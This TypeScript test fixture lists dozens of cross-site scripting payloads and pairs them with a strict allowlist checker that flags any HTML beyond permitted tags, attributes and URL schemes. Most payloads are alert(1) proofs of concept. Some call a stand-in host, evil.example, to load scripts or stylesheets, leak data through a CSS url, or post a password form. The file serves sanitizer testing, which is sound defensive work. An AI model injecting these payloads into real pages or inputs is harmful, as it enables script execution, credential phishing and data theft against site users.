/** Attack texts that try to run code from a HTML field, and a strict grammar that rejects all of them. */

export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="data:text/javascript,alert(1)"></script>',
  '<<script>alert(1);//<</script>',
  '<script x>alert(1)</script y>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src="x"/onerror="alert(1)">',
  '<img src=x onerror=alert(1)//',
  '<img src="x:x" onerror="alert(1)"',
  '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="x 1x, javascript:alert(1) 2x" onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target="x" rel="opener">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</div>',
  '<div style="\\62 ackground:u\\72l(https://evil.example/?leak)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p id="x" class="modal" onpointerrawupdate=alert(1) contenteditable>x</p>',
  '<table background="javascript:alert(1)"><td style="x">x</td></table>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '%3Cscript%3Ealert(1)%3C/script%3E<img src=x onerror=alert`1`>',
]

/** Variants of an attack: alone, inside text, after an open tag, and in something like an attribute. */
export const contexts: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<p>Hola ${attack} adiós</p>`,
  (attack) => `<ul><li>${attack}`,
  (attack) => `<a href="/x" title="${attack}">${attack}</a>`,
]

const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = {
  ...Object.fromEntries(
    'h2 h3 h4 p br hr blockquote pre ul li div span figure figcaption strong em u s sub sup mark small code table caption thead tbody tfoot tr'
      .split(' ')
      .map((tag) => [tag, []]),
  ),
  ol: ['start'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
  a: ['href', 'title', 'target', 'rel'],
  img: ['src', 'alt', 'width', 'height', 'loading'],
}

const NAMED: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"' }
const decoded = (value: string) =>
  value.replace(/&(?:#x([0-9a-f]+);?|#(\d+);?|(amp|lt|gt|quot);)/gi, (_, hex: string, dec: string, name: string) =>
    name ? (NAMED[name] ?? '') : String.fromCodePoint(Number.parseInt(hex ?? dec, hex ? 16 : 10)),
  )

/**
 * Everything in a text that a browser could parse as more than the allowed HTML. Stricter than a parser: every `<` has to begin an allowed
 * tag, spelled in full, with quoted allowed attributes; so no two parsers can disagree about the rest.
 */
export function dangersIn(html: string): string[] {
  const found: string[] = []
  const rest = html.replace(
    /<\/([a-z0-9]+)>|<([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( \/)?>/g,
    (whole, closing: string, opening: string, attributes: string) => {
      const tag = closing ?? opening
      const allowed = ALLOWED_ATTRIBUTES[tag]
      if (!allowed) found.push(whole)
      for (const [, name = '', value = ''] of (attributes ?? '').matchAll(/ ([a-z]+)="([^"]*)"/g)) {
        // Browsers ignore white space and control characters in URLs, and read a backslash as a slash.
        const address = decoded(value)
          .replace(/[^!-~\u0080-\uffff]/g, '')
          .replaceAll('\\', '/')
          .toLowerCase()
        if (!allowed?.includes(name)) found.push(`${tag} ${name}`)
        const schemes = name === 'href' ? /^(https?|mailto|tel):/ : name === 'src' ? /^https:/ : null
        if (schemes && /^(\/\/|[a-z][a-z0-9+.-]*:)/.test(address) && !schemes.test(address)) found.push(`${tag} ${name}=${value}`)
        if (name === 'target' && value !== '_blank') found.push(`${tag} ${name}=${value}`)
      }
      return ''
    },
  )
  if (/[<>]/.test(rest)) found.push(rest)
  return found
}
